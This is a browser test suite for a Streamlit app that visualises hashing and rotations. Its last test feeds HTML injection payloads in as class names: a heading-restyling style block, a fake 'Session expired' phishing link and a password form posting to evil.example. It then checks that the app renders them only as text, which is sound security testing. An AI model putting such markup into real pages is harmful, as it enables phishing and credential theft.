"""The app in a real browser: `streamlit run app.py` on a free loopback port, driven by Playwright + Debian's
Chromium. Flows: live rotation (the curve grows, a second session is not disturbed), lasso on the codes map
fills the image grid, switching the bit length changes the results, export a file and load it back. Each page
is screenshotted; with HASHVIZ_SCREENSHOTS=1 the shots replace docs/screenshots/ (shown in the README), otherwise
they go to a temporary folder so a test run leaves the work tree clean.

Chromium must be installed (`apt-get install -y chromium fonts-liberation`); `make test` does it. Without it
these tests fail — they never skip silently.
"""

from __future__ import annotations

import contextlib
import os
import re
import shutil
import socket
import subprocess
import sys
import time
import urllib.request
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parents[2]
CHROMIUM = "/usr/bin/chromium"
SHOTS = (ROOT / "docs" / "screenshots" if os.environ.get("HASHVIZ_SCREENSHOTS") == "1"
         else Path(os.environ.get("TMPDIR", "/tmp")) / "hashviz-screenshots")
ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
        "--disable-component-update", "--no-first-run"]
TIMINGS: dict[str, float] = {}

pytestmark = pytest.mark.browser


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def _need_chromium() -> None:
    if not Path(CHROMIUM).exists():
        pytest.fail(f"Chromium is missing at {CHROMIUM}: install it with `apt-get install -y chromium "
                    "fonts-liberation` (or run `make test`, which does)")


@contextlib.contextmanager
def _streamlit(home: Path, *args: str, umap: bool = True):
    """`streamlit run app.py` on a free loopback port with ``home`` as HASHVIZ_HOME; yields the URL."""
    port = _free_port()
    flag = "1" if umap else "0"
    env = {**os.environ, "HASHVIZ_HOME": str(home), "HASHVIZ_UMAP": flag, "HASHVIZ_UMAP_WARMUP": flag}
    log_path = home / f"streamlit-{port}.log"
    log = open(log_path, "w")
    t0 = time.perf_counter()
    proc = subprocess.Popen([sys.executable, "-m", "streamlit", "run", str(ROOT / "app.py"), "--server.port",
                             str(port), "--server.address", "127.0.0.1", "--server.headless", "true", *args],
                            cwd=ROOT, env=env, stdout=log, stderr=subprocess.STDOUT)
    url = f"http://127.0.0.1:{port}"
    try:
        deadline = time.perf_counter() + 180  # a generous deadline: the server imports torch on a loaded machine
        while True:
            try:
                urllib.request.urlopen(url + "/_stcore/health", timeout=1)
                break
            except OSError:
                if proc.poll() is not None:
                    pytest.fail(f"streamlit exited: {log_path.read_text()[-2000:]}")
                if time.perf_counter() > deadline:
                    pytest.fail(f"streamlit did not answer within 180 s: {log_path.read_text()[-2000:]}")
                time.sleep(0.2)
        TIMINGS.setdefault("server_start_s", time.perf_counter() - t0)
        yield url
    finally:
        proc.terminate()
        try:
            proc.wait(10)
        except subprocess.TimeoutExpired:
            proc.kill()
        log.close()


@pytest.fixture(scope="module")
def server(filled_home, tmp_path_factory):
    _need_chromium()
    home = tmp_path_factory.mktemp("browser_home")
    shutil.copytree(filled_home, home, dirs_exist_ok=True)  # uploads in these flows stay out of other tests
    with _streamlit(home) as url:
        yield url
    print("\nbrowser timings:", {k: round(v, 2) for k, v in TIMINGS.items()})


@pytest.fixture(scope="module")
def run_key(filled_home) -> str:
    from hashviz.pipeline import list_prepared

    return list_prepared(filled_home)[0].key


@pytest.fixture(scope="module")
def chromium():
    from playwright.sync_api import sync_playwright

    _need_chromium()
    with sync_playwright() as p:
        b = p.chromium.launch(executable_path=CHROMIUM, args=ARGS)
        yield b
        b.close()


@pytest.fixture(scope="module")
def browser(server, chromium):
    return chromium


@pytest.fixture
def page(browser):
    ctx = browser.new_context(viewport={"width": 1400, "height": 1000}, accept_downloads=True)
    pg = ctx.new_page()
    pg.set_default_timeout(90_000)
    yield pg
    ctx.close()


LAST_STEP_JS = """() => {
    const g = [...document.querySelectorAll('.js-plotly-plot')].find(
        g => (g.data || []).some(t => t.name === 'quantization error'));
    const x = g ? g.data[0].x : [];
    return x.length ? x[x.length - 1] : -1;
}"""

CONTRAST_JS = """(selector) => {
    const rgb = c => c.match(/[\\d.]+/g).slice(0, 3).map(Number);
    const lum = c => rgb(c).map(v => v / 255).map(v => v <= 0.03928 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4)
        .reduce((s, v, i) => s + [0.2126, 0.7152, 0.0722][i] * v, 0);
    const bg = getComputedStyle(document.querySelector('[data-testid="stApp"]')).backgroundColor;
    const el = document.querySelector(selector);
    const fg = el instanceof SVGElement ? getComputedStyle(el).fill : getComputedStyle(el).color;
    const [hi, lo] = [lum(fg), lum(bg)].sort((a, b) => b - a);
    return {fg, bg, ratio: (hi + 0.05) / (lo + 0.05), background: lum(bg)};
}"""


def readable(pg, selector: str, minimum: float) -> dict:
    """The text colour of the first ``selector`` against the app background: its WCAG contrast ratio."""
    pg.locator(selector).first.wait_for()
    c = pg.evaluate(CONTRAST_JS, selector)
    assert c["ratio"] >= minimum, (selector, c)
    return c


def idle(pg, timeout: float = 90_000) -> None:
    """Wait until Streamlit has finished the current script run (no running indicator, no stale elements)."""
    pg.wait_for_function("""() => {
        const w = document.querySelector('[data-testid="stStatusWidget"]');
        return !(w && /running/i.test(w.innerText));
    }""", timeout=timeout)


def shot(pg, name: str, height: int = 1800) -> None:
    """Streamlit scrolls inside its own container, so a tall viewport (not full_page) shows the whole page."""
    SHOTS.mkdir(parents=True, exist_ok=True)
    size = pg.viewport_size
    pg.set_viewport_size({"width": size["width"], "height": height})
    idle(pg)  # the resize reflows the page; Streamlit redraws charts to the new width
    pg.wait_for_function("() => document.fonts.status === 'loaded'")
    pg.screenshot(path=str(SHOTS / f"{name}.png"))
    assert (SHOTS / f"{name}.png").stat().st_size > 10_000  # a real page, not a blank frame
    pg.set_viewport_size(size)


def caption_number(pg, pattern: str) -> int | None:
    m = re.search(pattern, pg.inner_text("body"))
    return int(m.group(1)) if m else None


def wait_until(condition, what: str, timeout: float = 90.0, every: float = 0.1, pg=None):
    """Poll ``condition()`` until it returns a truthy value (returned) or ``timeout`` seconds pass (fail)."""
    deadline = time.perf_counter() + timeout
    while True:
        value = condition()
        if value:
            return value
        if time.perf_counter() > deadline:
            pytest.fail(f"waited {timeout:.0f} s for {what}")
        if pg is not None:
            pg.wait_for_timeout(every * 1000)
        else:
            time.sleep(every)


def test_first_page_and_data_screenshot(server, page):
    t = time.perf_counter()
    page.goto(server + "/")
    page.get_by_text("Current run: ").wait_for()
    page.get_by_text("Sample images per class").wait_for()
    TIMINGS["first_page_s"] = time.perf_counter() - t
    idle(page)
    shot(page, "1_data")


def test_playground_slider_turns_the_toy_and_the_animation_plays(server, page):
    """The toy answers the hand slider (codes and error change) and HQ's animation plays to its last step."""
    page.goto(server + "/playground")
    page.locator("strong", has_text="Where the learned rotations land:").wait_for()  # not the caption's "…landed"
    idle(page)
    error = page.locator('[data-testid="stMetricValue"]').first
    before = error.inner_text()
    angle = page.locator('[data-testid="stSlider"]').filter(has_text="Rotation angle").locator('input[type="range"]')
    angle.focus()
    for _ in range(30):
        page.keyboard.press("ArrowLeft")
    page.locator(".gtitle").filter(has_text="θ = -30.0°").wait_for()
    page.wait_for_function("(b) => document.querySelector('[data-testid=stMetricValue]').innerText !== b", arg=before)
    idle(page)
    assert float(error.inner_text()) < float(before)
    page.locator(".updatemenu-button").filter(has_text="play").first.click()
    page.locator(".gtitle").filter(has_text="HQ: step 200 ·").wait_for()      # the last frame: the learned R
    page.locator("h1").first.scroll_into_view_if_needed()
    shot(page, "0_playground", height=2700)
    page.goto(server + "/playground?toy_bits=3")
    page.locator("strong", has_text="Where the learned rotations land:").wait_for()  # not the caption's "…landed"
    page.get_by_text("yaw: about z").wait_for()
    idle(page)
    shot(page, "0_playground_3d", height=2500)


def test_live_rotation_curve_grows_and_other_sessions_are_undisturbed(server, page, browser):
    page.goto(server + "/rotation?bits=16")
    page.get_by_role("button", name="Start").wait_for()
    steps = page.get_by_label("Steps")
    steps.fill("50000")
    steps.press("Enter")
    idle(page)
    assert steps.input_value() == "50000"
    page.get_by_role("button", name="Start").click()
    page.get_by_text(re.compile(r"Curve rows: \d+")).wait_for()  # the first tick (torch may still be loading)
    # the chart updates: at least three different curve lengths, counted over at least 5 s (for the rate);
    # generous deadline, since a loaded machine may give the server only part of a core
    seen, t0 = [], time.perf_counter()

    def grew() -> bool:
        n = caption_number(page, r"Curve rows: (\d+)")
        if n is not None and (not seen or n != seen[-1]):
            seen.append(n)
        return len(seen) >= 6 or (len(seen) >= 3 and time.perf_counter() - t0 >= 5)

    wait_until(grew, "the live chart to update", timeout=90, every=0.05, pg=page)
    assert seen == sorted(seen) and seen[-1] > seen[0], seen
    TIMINGS["chart_updates_per_s"] = (len(seen) - 1) / (time.perf_counter() - t0)
    # the plotted curve itself grows, not only the caption
    page.wait_for_function(f"() => ({LAST_STEP_JS})() > 0")
    first = page.evaluate(LAST_STEP_JS)
    page.wait_for_function(f"() => ({LAST_STEP_JS})() > {first}")
    sps = re.search(r"steps/s\s*(\d+)", page.inner_text("body"))
    TIMINGS["steps_per_s"] = float(sps.group(1)) if sps else float("nan")
    # share it with every session viewing the run (the Queries test below opens another browser context)
    page.get_by_text("Share with every session viewing this run").click()
    page.get_by_text("· shared").wait_for()
    # a second browser session: its own state, the first one's fit keeps running
    other = browser.new_context(viewport={"width": 1400, "height": 1000}).new_page()
    other.set_default_timeout(90_000)
    other.goto(server + "/rotation?bits=16")
    other.get_by_role("button", name="Start").wait_for()
    idle(other)
    assert other.get_by_role("button", name="Start").is_enabled()  # not running in this session
    before = caption_number(page, r"Curve rows: (\d+)")
    # the first session keeps training: its curve grows again (patiently: the second session's first page load
    # competes for the 2 cores, and a page in another window may have its timers throttled)
    wait_until(lambda: (caption_number(page, r"Curve rows: (\d+)") or 0) > before,
               "the first session's curve to grow while a second session is open", timeout=60, every=0.25, pg=page)
    other.context.close()
    shot(page, "2_rotation")
    main = page.get_by_test_id("stMainBlockContainer")
    main.get_by_role("button", name="Stop").click()
    page.get_by_text("stopped").first.wait_for()
    # the stop message and the redrawn buttons come from separate reruns: wait for Start to be enabled again
    wait_until(lambda: main.get_by_role("button", name="Start").is_enabled(), "Start to be enabled after Stop",
               timeout=60, every=0.25, pg=page)


def test_switching_bits_changes_the_results(server, page, run_key):
    page.goto(server + f"/compare?run={run_key}&bits=16")
    page.get_by_text("for the sidebar's 16 bits").wait_for()
    idle(page)
    shot(page, "5_compare", height=2300)
    page.locator('[data-testid="stSidebar"]').get_by_text("32", exact=True).click()
    page.get_by_text("for the sidebar's 32 bits").wait_for()
    assert "bits=32" in page.url


def test_queries_page(server, page, run_key):
    page.goto(server + f"/queries?run={run_key}&bits=16&k=8")
    page.get_by_text("32 bits", exact=True).wait_for()
    idle(page)
    page.wait_for_function("() => document.querySelectorAll('.hv-grid img').length >= 1 + 8 * 3 * 2")
    # the query + k × (sign, ITQ, HQ) × 2 bit lengths + k for the live fit the rotation test shared (16 bits)
    assert page.locator(".hv-grid img").count() == 1 + 8 * 3 * 2 + 8
    assert page.get_by_text(re.compile(r"live HQ-l2 .*\(shared\) · AP")).count() == 1
    marks = page.locator(".hv-grid figcaption").all_inner_texts()
    assert sum(m.startswith(("✓", "✗")) for m in marks) == 8 * 3 * 2 + 8  # every result carries its mark
    assert readable(page, ".hv-grid figcaption", 4.5)["background"] > 0.8  # light theme: dark text on white
    shot(page, "4_queries", height=2000)


def test_lasso_on_the_codes_map_fills_the_grid(server, page, run_key):
    page.goto(server + f"/embeddings?run={run_key}&bits=16")
    page.get_by_text("Draw a lasso").wait_for()
    # UMAP runs in a background process (PCA meanwhile); lasso on the final maps, so no redraw interferes
    wait_until(lambda: "UMAP computing" not in page.inner_text("body"), "the UMAP maps", timeout=180, every=1,
               pg=page)
    TIMINGS["umap_ready"] = 1.0
    idle(page)
    plots = page.locator(".js-plotly-plot")

    def lasso() -> float:
        """One lasso over the middle of the codes map; returns when it was released."""
        plots.nth(1).wait_for()
        plots.nth(1).scroll_into_view_if_needed()
        box = wait_until(lambda: plots.nth(1).locator(".nsewdrag").first.bounding_box(), "the codes map",
                         timeout=60, every=0.5, pg=page)
        cx, cy, w, h = box["x"] + box["width"] / 2, box["y"] + box["height"] / 2, box["width"], box["height"]
        pts = [(cx - 0.35 * w, cy - 0.35 * h), (cx + 0.35 * w, cy - 0.35 * h), (cx + 0.35 * w, cy + 0.35 * h),
               (cx - 0.35 * w, cy + 0.35 * h), (cx - 0.35 * w, cy - 0.3 * h)]
        page.mouse.move(*pts[0])
        page.mouse.down()
        for x, y in pts[1:]:
            page.mouse.move(x, y, steps=8)
        t = time.perf_counter()
        page.mouse.up()
        return t

    # a redraw landing during the gesture (the last UMAP, a slow rerun) cancels it: draw it again, up to a
    # generous deadline, until the selection arrives
    deadline = time.perf_counter() + 180
    while True:
        t = lasso()
        try:
            page.get_by_text(re.compile(r"\d+ selected")).wait_for(timeout=20_000)
            break
        except Exception:
            if time.perf_counter() > deadline:
                raise
            idle(page)
    page.locator(".hv-grid img").first.wait_for()
    TIMINGS["lasso_to_grid_s"] = time.perf_counter() - t
    n_selected = caption_number(page, r"(\d+) selected")
    assert n_selected > 0 and page.locator(".hv-grid img").count() == min(n_selected, 80)
    idle(page)
    shot(page, "3_embeddings", height=2300)


SELECTED_ROWS_JS = """() => [...document.querySelectorAll('.js-plotly-plot')].slice(0, 3).map(g => {
    const rows = [];  // _fullData: the arrays as plotly decoded them (g.data may hold them base64-encoded)
    for (const t of g._fullData || []) {
        if (!t.customdata || !t.selectedpoints || (t.meta !== 'points' && t.meta !== 'other classes')) continue;
        for (const k of t.selectedpoints) rows.push(Number(t.customdata[k]));
    }
    return rows.sort((a, b) => a - b);
})"""

POINT_JS = """([i, k]) => {
    const g = document.querySelectorAll('.js-plotly-plot')[i];
    const t = g._fullData.find(t => t.meta === 'points');
    const xa = g._fullLayout.xaxis, ya = g._fullLayout.yaxis, r = g.getBoundingClientRect();
    return {x: r.left + xa._offset + xa.c2p(t.x[k]), y: r.top + ya._offset + ya.c2p(t.y[k])};
}"""


def _final_maps(page) -> None:
    """Wait until every map shows its UMAP (no "UMAP computing" three checks in a row) and the page is idle."""
    deadline, calm = time.perf_counter() + 120, 0
    while calm < 3 and time.perf_counter() < deadline:
        page.wait_for_timeout(1000)
        calm = 0 if "UMAP computing" in page.inner_text("body") else calm + 1
    idle(page)
    page.wait_for_function("() => [...document.querySelectorAll('.js-plotly-plot')].slice(0, 3).every("
                           "g => g._fullLayout && String(g._fullLayout.clickmode).includes('select'))")


def test_a_click_in_the_default_lasso_mode_and_linked_brushing(server, page, run_key):
    """One click on a point (the lasso is the drag mode) picks it and rings its neighbours; a lasso on one map
    greys the same rows in all three maps."""
    page.goto(server + f"/embeddings?run={run_key}&bits=16")
    page.get_by_text("Draw a lasso").wait_for()
    _final_maps(page)
    page.locator(".js-plotly-plot").nth(1).scroll_into_view_if_needed()
    assert page.evaluate("() => document.querySelectorAll('.js-plotly-plot')[1]._fullLayout.dragmode") == "lasso"
    pt = page.evaluate(POINT_JS, [1, 7])
    page.mouse.move(pt["x"], pt["y"])
    page.wait_for_timeout(300)
    page.mouse.click(pt["x"], pt["y"])  # identical codes share a point: the row picked is the one on top
    page.get_by_text(re.compile(r"Clicked point \d+")).wait_for()
    row = caption_number(page, r"Clicked point (\d+)")
    page.get_by_text(f"Nearest codes to point {row}").first.wait_for()
    assert page.get_by_text(f"Nearest codes to point {row}").count() == 2
    page.wait_for_function(f"() => ({SELECTED_ROWS_JS})().every(r => r.length === 1 && r[0] === {row})")
    # a lasso on the "before" map: the same rows are selected (the rest greyed) in every map
    idle(page)
    plot = page.locator(".js-plotly-plot").nth(1)
    plot.scroll_into_view_if_needed()
    box = plot.locator(".nsewdrag").first.bounding_box()
    cx, cy, w, h = box["x"] + box["width"] / 2, box["y"] + box["height"] / 2, box["width"], box["height"]
    pts = [(cx - 0.3 * w, cy - 0.3 * h), (cx + 0.3 * w, cy - 0.3 * h), (cx + 0.3 * w, cy + 0.3 * h),
           (cx - 0.3 * w, cy + 0.3 * h), (cx - 0.3 * w, cy - 0.25 * h)]
    page.mouse.move(*pts[0])
    page.mouse.down()
    for x, y in pts[1:]:
        page.mouse.move(x, y, steps=8)
    page.mouse.up()
    page.wait_for_function("() => { const m = /(\\d+) selected/.exec(document.body.innerText); "
                           "return m && +m[1] > 1; }")
    n = caption_number(page, r"(\d+) selected")
    page.wait_for_function(f"() => ({SELECTED_ROWS_JS})().every(r => r.length === {n})")
    rows = page.evaluate(SELECTED_ROWS_JS)
    assert rows[0] == rows[1] == rows[2] and len(rows[0]) == n


def test_export_and_load_back(server, page, tmp_path, run_key):
    page.goto(server + f"/compare?run={run_key}&bits=16")
    page.get_by_text("Export").first.wait_for()
    idle(page)
    with page.expect_download() as dl:
        page.get_by_role("button", name=re.compile(r"Codes \+ rotations")).click()
    path = tmp_path / "export.npz"
    dl.value.save_as(path)
    from hashviz.embeddings import Embeddings

    emb = Embeddings.load(path)
    assert emb.dim == 16 and emb.n == 5000
    page.goto(server + "/")
    page.get_by_role("tab", name=re.compile("Bring your own")).click()
    page.locator('input[type="file"][accept*=".npz"]').set_input_files(str(path))
    page.get_by_text("saved as a run").wait_for()
    assert page.locator('[data-testid="stException"]').count() == 0


# ---- dark theme: a second server started with --theme.base dark ------------------------------------------------
@pytest.fixture(scope="module")
def dark_server(filled_home, tmp_path_factory):
    _need_chromium()
    home = tmp_path_factory.mktemp("dark_home")
    shutil.copytree(filled_home, home, dirs_exist_ok=True)
    with _streamlit(home, "--theme.base", "dark", umap=False) as url:
        yield url


def test_dark_theme_keeps_our_html_and_figures_readable(dark_server, browser, run_key):
    ctx = browser.new_context(viewport={"width": 1400, "height": 1000})
    pg = ctx.new_page()
    pg.set_default_timeout(90_000)
    try:
        pg.goto(dark_server + f"/queries?run={run_key}&bits=16&k=8")
        pg.wait_for_function("() => document.querySelectorAll('.hv-grid img').length >= 1 + 8 * 3 * 2")
        idle(pg)
        caption = readable(pg, ".hv-grid figcaption", 4.5)  # ✓/✗ d=… captions under the images
        assert caption["background"] < 0.1, caption  # the page really is dark
        shot(pg, "dark_4_queries", height=1400)
        pg.goto(dark_server + f"/compare?run={run_key}&bits=16")
        pg.get_by_text("for the sidebar's 16 bits").wait_for()
        idle(pg)
        readable(pg, ".js-plotly-plot .xtick text", 4.5)  # axis labels follow the theme
        readable(pg, ".js-plotly-plot .legendtext", 4.5)
        shot(pg, "dark_5_compare", height=2300)
        pg.goto(dark_server + "/rotation?bits=16")
        pg.get_by_role("button", name="Start").wait_for()
        idle(pg)
        pg.get_by_role("button", name="Start").click()
        pg.wait_for_function(LAST_STEP_JS.replace("return x.length ? x[x.length - 1] : -1;", "return x.length > 1;"))
        readable(pg, ".js-plotly-plot .ytick text", 4.5)
        readable(pg, ".js-plotly-plot .annotation-text", 3.0)  # the sign / ITQ reference labels
        shot(pg, "dark_2_rotation")
    finally:
        ctx.close()


# ---- user text is text (issue 9 §1) ---------------------------------------------------------------------------
HOSTILE = ('<style>h1,h2,h3{color:red!important;font-size:90px!important}</style>S',
           '<a href="https://evil.example/phish">Session expired, click to log in</a>',
           '<form action="https://evil.example/steal"><input name="pw"><button>Go</button></form>')

INJECTED_JS = """() => ({
    links: document.querySelectorAll('a[href*="evil.example"]').length,
    forms: document.querySelectorAll('form[action*="evil.example"], input[name="pw"]').length,
    styles: [...document.querySelectorAll('style')].filter(s => s.textContent.includes('90px')).length,
    h1: getComputedStyle(document.querySelector('h1')).fontSize,
    h1colour: getComputedStyle(document.querySelector('h1')).color,
    text: document.body.innerText,
})"""


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory):
    """A home with one uploaded run whose class names are the issue's markup (and thumbnails to show them)."""
    import io

    import numpy as np

    from hashviz.session.runs import Workspace

    home = tmp_path_factory.mktemp("hostile_browser_home")
    rng = np.random.default_rng(0)
    labels = np.arange(150) % 3
    z = ((rng.standard_normal((3, 16)) * 3)[labels] + rng.standard_normal((150, 16))).astype(np.float32)
    buf = io.BytesIO()
    np.savez(buf, z=z, labels=labels, class_names=np.array(HOSTILE),
             thumbnails=(np.arange(150 * 64) % 255).astype(np.uint8).reshape(150, 8, 8))
    old = os.environ.get("HASHVIZ_HOME")
    os.environ["HASHVIZ_HOME"] = str(home)
    try:
        key = Workspace(home).import_embeddings(buf.getvalue(), "classes.npz").key
    finally:
        if old is None:
            os.environ.pop("HASHVIZ_HOME", None)
        else:
            os.environ["HASHVIZ_HOME"] = old
    return home, key


def test_hostile_class_names_are_shown_as_text_in_the_browser(chromium, hostile_run):
    """Sample images per class, the map legends of Codes & embeddings and the Queries page, in Chromium: the class
    names read literally, and the page has no link, form, input or style sheet from them (headings keep their
    size and colour)."""
    home, key = hostile_run
    with _streamlit(home, umap=False) as url:
        ctx = chromium.new_context(viewport={"width": 1400, "height": 1000})
        pg = ctx.new_page()
        pg.set_default_timeout(90_000)
        try:
            pg.goto(url + f"/?run={key}")
            pg.get_by_text("Sample images per class").wait_for()
            pg.wait_for_function("() => document.querySelectorAll('.hv-grid').length >= 3")  # a row per class
            found = pg.evaluate(INJECTED_JS)
            assert (found["links"], found["forms"], found["styles"]) == (0, 0, 0), found
            assert found["h1"] != "90px" and found["h1colour"] != "rgb(255, 0, 0)", found
            assert all(name in found["text"] for name in HOSTILE), found["text"][:2000]

            pg.goto(url + f"/embeddings?run={key}")
            pg.locator(".js-plotly-plot .legendtext").first.wait_for()
            pg.wait_for_function("""(name) => [...document.querySelectorAll('.js-plotly-plot .legendtext')]
                .some(t => t.textContent === name)""", arg=HOSTILE[1])
            legend = pg.evaluate("""() => [...document.querySelectorAll('.js-plotly-plot .legendtext')]
                .map(t => t.textContent)""")
            assert all(name in legend for name in HOSTILE), legend
            found = pg.evaluate(INJECTED_JS)
            assert (found["links"], found["forms"], found["styles"]) == (0, 0, 0), found
            assert pg.evaluate("() => document.querySelectorAll('.js-plotly-plot a').length") == 0

            pg.goto(url + f"/queries?run={key}&mode=class")
            pg.wait_for_function("() => document.querySelectorAll('.hv-grid img').length >= 2")
            pg.get_by_text(re.compile(r"class .*(Session expired|font-size|button)")).first.wait_for()
            found = pg.evaluate(INJECTED_JS)
            assert (found["links"], found["forms"], found["styles"]) == (0, 0, 0), found
        finally:
            ctx.close()
